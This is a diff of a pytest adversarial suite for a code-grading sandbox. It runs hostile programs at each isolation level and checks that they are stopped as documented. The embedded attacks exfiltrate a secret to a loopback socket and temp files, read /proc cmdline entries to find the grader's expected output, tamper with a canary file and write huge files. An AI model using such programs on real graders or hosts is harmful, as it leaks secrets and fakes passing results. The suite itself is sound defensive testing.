@@ -1,14 +1,18 @@
-"""Hostile programs against the grader (issue 3, item 5).
+"""Hostile programs against the grader (issue 3, item 5; issue 12), at every isolation
+level this machine gives.
 
 Every attack is graded as an answer to a problem whose expected output is a random
-token it cannot compute, so passing would prove a leak; each must fail while the host
-stays untouched. All attacks run together, in parallel, as in real grading; the last
-tests check the host afterwards: no process left, canaries intact, the secret found
-nowhere, the grader still healthy. Requires the full isolation level (bubblewrap).
+token it cannot compute (also planted on disk, world-readable, in the host's temp
+folder, as a problems table would be), so passing would prove a leak. All attacks run
+together, in parallel, as in real grading. Which attacks each level stops is the table
+in docs/security.md ("What each level stops"): the test reads it and checks every cell
+both ways, stopped and not stopped. Afterwards: no process left, the secret found
+nowhere, the grader still healthy.
 """
 
 import json
 import os
+import re
 import secrets
 import shutil
 import stat
@@ -24,21 +28,17 @@ import pytest
 from _sandbox_fixtures import LoopbackServer
 
 from p3 import storage
-from p3.sandbox import Job, Limits, Sandbox, sandbox_python
+from p3.sandbox import LEVELS, Job, Limits, Sandbox, sandbox_python
 from p3.verify import apps as vapps
-
-if not shutil.which("bwrap"):
-    pytest.skip("bubblewrap not installed (apt-get install bubblewrap): the adversarial suite needs full isolation",
-                allow_module_level=True)
 
 TOKEN = "P3TOK" + secrets.token_hex(16)  # the expected output: unguessable
 SECRET = "P3SECRET" + secrets.token_hex(16)  # in the grader's environment
 ANSWER_INT = secrets.randbelow(10**15) + 10**15  # expected call-based return value
-TIMEOUT = 1.5
+TIMEOUT = 1.0
 WORKERS = 2
 
 
-def attacks(canary: str, port: int, grader_pid: int) -> dict:
+def attacks(canary: str, port: int, grader_pid: int, exfil_port: int = 1) -> dict:
     """name -> (code, call_based, allowed run statuses); no attack may pass its test."""
     canary_dir = os.path.dirname(canary)
     exfiltrate = f"""
@@ -56,7 +56,7 @@ for path in ['leak', '/tmp/p3-leak', '/dev/shm/leak', '/var/tmp/p3-leak', {canar
     except OSError:
         pass
 try:
-    socket.create_connection(('127.0.0.1', {port}), timeout=0.5).sendall(blob.encode())
+    socket.create_connection(('127.0.0.1', {exfil_port}), timeout=0.5).sendall(blob.encode())
 except OSError:
     pass
 print(blob)
@@ -70,7 +70,14 @@ def found(data):
         print(m.group().decode())
         sys.exit(0)
 paths = []
-for f in ['/proc/%d/cmdline' % os.getppid(), '/proc/{grader_pid}/cmdline'] + glob.glob('/proc/*/cmdline'):
+ancestors, pid = [], os.getppid()
+while pid > 1 and len(ancestors) < 8:  # the parent may be a keeper: walk up to the grader
+    ancestors.append('/proc/%d/cmdline' % pid)
+    try:
+        pid = int(open('/proc/%d/stat' % pid).read().rsplit(')', 1)[1].split()[1])
+    except (OSError, ValueError, IndexError):
+        break
+for f in ancestors + ['/proc/{grader_pid}/cmdline'] + glob.glob('/proc/*/cmdline'):
     try:
         args = open(f, 'rb').read().split(b'\\0')
     except OSError:
@@ -159,35 +166,72 @@ print('nothing')
     }
 
 
+DOCS = Path(__file__).resolve().parents[1] / "docs" / "security.md"
+
+
+def documented_outcomes() -> dict:
+    """docs/security.md's table "What each level stops": attack -> {level: stopped?}."""
+    text = DOCS.read_text().split("### What each level stops", 1)[1]
+    rows = [line for line in text.splitlines() if line.startswith("| `")]
+    header = next(line for line in text.splitlines() if line.startswith("| attack"))
+    levels = [c.strip() for c in header.strip("|").split("|")][1:]
+    table = {}
+    for line in rows:
+        cells = [c.strip().strip("*") for c in line.strip().strip("|").split("|")]
+        table[cells[0].strip("`")] = {lv: cell == "stopped" for lv, cell in zip(levels, cells[1:])}
+    return table
+
+
+@pytest.fixture(scope="module", params=LEVELS)
+def level(request):
+    level = request.param
+    if level != "bwrap" and os.geteuid() != 0:
+        pytest.skip(f"level {level} with a non-root grader runs programs as the test itself: they could kill it")
+    try:
+        Sandbox(workers=1, isolation=level, allow_weak=True).close()
+    except RuntimeError as exc:
+        pytest.skip(f"isolation level {level} unavailable here: {exc}")
+    return level
+
+
 @pytest.fixture(scope="module")
-def host():
-    """Canary files, a secret in the grader's environment, a loopback server."""
-    canary_dir = tempfile.mkdtemp(prefix="p3-canary-")
+def host(level):
+    """A world-writable canary outside the temp folders (/run when root), the expected
+    output in a world-readable file in the host's temp folder, a secret in the grader's
+    environment, and two loopback servers (one for the socket attack, one for the thief)."""
+    base = "/run" if os.access("/run", os.W_OK) else None
+    canary_dir = tempfile.mkdtemp(prefix="p3-canary-", dir=base)
     os.chmod(canary_dir, 0o777)  # only isolation, not permissions, may protect it
     canary = os.path.join(canary_dir, "canary.txt")
     Path(canary).write_text("canary\n")
     os.chmod(canary, 0o666)
+    table_dir = tempfile.mkdtemp(prefix="p3-problems-")
+    os.chmod(table_dir, 0o755)
+    Path(table_dir, "tests.json").write_text(json.dumps({"outputs": [TOKEN]}))
+    os.chmod(Path(table_dir, "tests.json"), 0o644)
     old = os.environ.get("P3_GRADER_SECRET")
     os.environ["P3_GRADER_SECRET"] = SECRET
-    server = LoopbackServer()
-    yield {"canary": canary, "server": server}
+    server, exfil = LoopbackServer(), LoopbackServer()
+    yield {"canary": canary, "server": server, "exfil": exfil}
     server.close()
+    exfil.close()
     if old is None:
         os.environ.pop("P3_GRADER_SECRET", None)
     shutil.rmtree(canary_dir, ignore_errors=True)
+    shutil.rmtree(table_dir, ignore_errors=True)
 
 
 @pytest.fixture(scope="module")
-def sandbox(host):
-    sb = Sandbox(workers=WORKERS, limits=Limits(timeout=TIMEOUT), require_isolation=True)
-    assert sb.level == "bwrap"
+def sandbox(level, host):
+    sb = Sandbox(workers=WORKERS, limits=Limits(timeout=TIMEOUT), isolation=level, allow_weak=level != "bwrap")
+    assert sb.level == level
     return sb
 
 
 @pytest.fixture(scope="module")
 def suite(host, sandbox):
-    """Run every attack once, in parallel; name -> (RunResult, test status)."""
-    table = attacks(host["canary"], host["server"].port, os.getpid())
+    """Run every attack once, in parallel; name -> (RunResult, test status, allowed run statuses)."""
+    table = attacks(host["canary"], host["server"].port, os.getpid(), host["exfil"].port)
     jobs = []
     for code, call_based, _ in table.values():
         jobs.append(Job(code, fn_name="solve", args=[7]) if call_based else Job(code, stdin="1 2\n"))
@@ -205,19 +249,47 @@ def suite(host, sandbox):
 ATTACKS = list(attacks("/x/c", 1, 1))
 
 
-@pytest.mark.parametrize("name", ATTACKS)
-def test_attack_fails(suite, name):
+def host_effects(name: str, host: dict) -> list[str]:
+    """What an attack did outside its sandbox, where it aims at more than its verdict."""
+    canary = Path(host["canary"])
+    if name == "delete_canary":
+        intact = canary.exists() and canary.read_text() == "canary\n" and stat.S_IMODE(canary.stat().st_mode) == 0o666
+        return [] if intact else ["the canary was changed"]
+    if name == "loopback_socket":
+        return [f"{host['server'].connections} connection(s) to the host"] if host["server"].connections else []
+    if name == "steal_secret":
+        return ["the secret reached the host's server"] if SECRET.encode() in host["exfil"].received else []
+    if name == "ten_gb_file":
+        return [p for p in ("/tmp/big", "/dev/shm/big") if os.path.exists(p)]
+    return []
+
+
+def stopped(suite, host, name) -> tuple[bool, str]:
     res, status, allowed = suite[name]
-    assert status != "ok", f"{name} passed: {res}"
-    assert res.status in allowed, f"{name}: run status {res.status}, expected one of {allowed}: {res.stderr[-500:]}"
-    assert TOKEN not in res.stdout
+    why = [f"passed its test ({res.stdout[:80]!r})"] if status == "ok" else []
+    why += [f"run status {res.status}, not one of {sorted(allowed)}"] if res.status not in allowed else []
+    why += ["printed the expected output"] if TOKEN in res.stdout else []
+    return not (why + host_effects(name, host)), "; ".join(why + host_effects(name, host))
+
+
+def test_the_docs_table_covers_every_attack_at_every_level():
+    table = documented_outcomes()
+    assert set(table) == set(ATTACKS)
+    assert all(set(row) == set(LEVELS) for row in table.values())
+    assert all(row["bwrap"] for row in table.values())  # full isolation stops everything
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_each_level_stops_what_the_docs_say(suite, host, level, name):
+    ok, why = stopped(suite, host, name)
+    assert ok == documented_outcomes()[name][level], \
+        f"{name} at {level}: {why or 'stopped'}; stderr: {suite[name][0].stderr[-300:]}"
 
 
 def test_nothing_leaked_into_the_sandbox(suite):
     for name in ATTACKS:
         res = suite[name][0]
         assert SECRET not in res.stdout and SECRET not in res.stderr, name
-    assert suite["read_expected_outputs"][0].stdout.strip() == "nothing"
 
 
 def test_suite_wall_time_is_bounded(suite):
@@ -228,7 +300,7 @@ def test_suite_wall_time_is_bounded(suite):
 def _sandbox_processes(sb: Sandbox, since: float) -> list:
     """Processes of the sandbox uids (root grader), and any descendant of this test
     process started during the suite (other than the math-verify workers)."""
-    uids = set(range(sb.uid_base, sb.uid_base + sb.workers)) if os.geteuid() == 0 else set()
+    uids = set(sb.uids)
     left = [p for p in psutil.process_iter(["uids"]) if p.info["uids"] and p.info["uids"].real in uids]
     for p in psutil.Process().children(recursive=True):
         try:
@@ -241,19 +313,13 @@ def _sandbox_processes(sb: Sandbox, since: float) -> list:
 
 def test_zz_host_untouched_after_the_suite(suite, host, sandbox):
     # no process left (not even a zombie): give the kernel a moment to tear namespaces down
-    deadline = time.monotonic() + 3
+    deadline = time.monotonic() + 10  # a loaded host tears namespaces down slowly
     while _sandbox_processes(sandbox, suite["_started_at"]) and time.monotonic() < deadline:
         time.sleep(0.1)
     assert _sandbox_processes(sandbox, suite["_started_at"]) == []
-    # canaries intact
-    canary = host["canary"]
-    assert Path(canary).read_text() == "canary\n"
-    assert stat.S_IMODE(os.stat(canary).st_mode) == 0o666
-    assert os.listdir(os.path.dirname(canary)) == ["canary.txt"]
     # the secret went nowhere: not over the network, not into any file we can find
-    server = host["server"]
-    assert server.connections == 0 and server.received == b""
-    for root in ("/tmp", "/dev/shm", "/var/tmp"):
+    assert SECRET.encode() not in host["server"].received + host["exfil"].received
+    for root in ("/tmp", "/dev/shm", "/var/tmp", os.path.dirname(host["canary"])):
         for dirpath, _, files in os.walk(root):
             for f in files:
                 path = os.path.join(dirpath, f)
@@ -262,7 +328,7 @@ def test_zz_host_untouched_after_the_suite(suite, host, sandbox):
                         assert SECRET.encode() not in Path(path).read_bytes(), path
                 except OSError:
                     pass
-    assert not os.path.exists("/tmp/big") and not os.path.exists("/tmp/p3-leak")
+    assert not os.path.exists("/tmp/big") and not os.path.exists("/tmp/p3-leak")  # swept below bwrap
     # the grader is still healthy
     ok = vapps.grade_program(sandbox, "print(int(input()) + 1)", json.dumps({"inputs": ["1\n"], "outputs": ["2\n"]}))
     assert ok["passed"] is True
@@ -271,7 +337,8 @@ def test_zz_host_untouched_after_the_suite(suite, host, sandbox):
 def test_reading_graders_files_works_without_isolation_and_not_with_it(tmp_path):
     """The /proc/<ppid>/cmdline attack against `p3 grade` itself: it finds the expected
     output in the grader's files when isolation is off (so the attack is real), and
-    nothing with bwrap."""
+    nothing at the other levels. Below bwrap `p3 grade` refuses unless told otherwise,
+    and the results record the level the programs ran at."""
     work = Path(tempfile.mkdtemp(prefix="p3-grader-files-"))
     try:
         os.chmod(work, 0o755)  # a typical world-readable output folder
@@ -286,20 +353,31 @@ def test_reading_graders_files_works_without_isolation_and_not_with_it(tmp_path)
         (work / "c.jsonl").write_text(json.dumps({"id": "apps-1", "sample": 0, "completion": code}) + "\n")
         for f in work.iterdir():
             os.chmod(f, 0o644)
-        passed = {}
-        for level in ("none", "bwrap"):
+
+        def grade(level, *extra):
             out = work / f"results-{level}.parquet"
             proc = subprocess.run([sys.executable, "-m", "p3.cli", "grade", "--problems", str(work / "problems.parquet"),
                                    "--completions", str(work / "c.jsonl"), "--out", str(out), "--isolation", level,
-                                   "--timeout", "5", "--workers", "1"],
+                                   "--timeout", "5", "--workers", "1", *extra],
                                   capture_output=True, text=True, timeout=120,
                                   env={**os.environ, "P3_SANDBOX_PYTHON": sandbox_python()})
+            return proc, out
+
+        passed = {}
+        for level in ("none", "unshare", "bwrap"):
+            if level != "bwrap":  # refused by default, before any program ran: no results
+                proc, out = grade(level)
+                assert proc.returncode == 1 and not out.exists(), proc.stderr
+                assert f"isolation proven here is '{level}'" in proc.stderr and "--allow-weak-isolation" in proc.stderr
+            proc, out = grade(level, *(["--allow-weak-isolation"] if level != "bwrap" else []))
             assert proc.returncode == 0, proc.stderr
-            if level == "none":
+            if level != "bwrap":
                 assert "SANDBOX ISOLATION IS WEAK" in proc.stderr  # said loudly
-            passed[level] = storage.read_table(out).column("passed").to_pylist()[0]
+            row = storage.read_table(out).to_pylist()[0]
+            assert row["isolation"] == level
+            passed[level] = row["passed"]
         # the files are world-readable (0644), so whoever the program runs as can read them
         assert passed["none"] is True, "the attack should work without isolation (else this test proves nothing)"
-        assert passed["bwrap"] is False
+        assert passed["unshare"] is False and passed["bwrap"] is False
     finally:
         shutil.rmtree(work, ignore_errors=True)
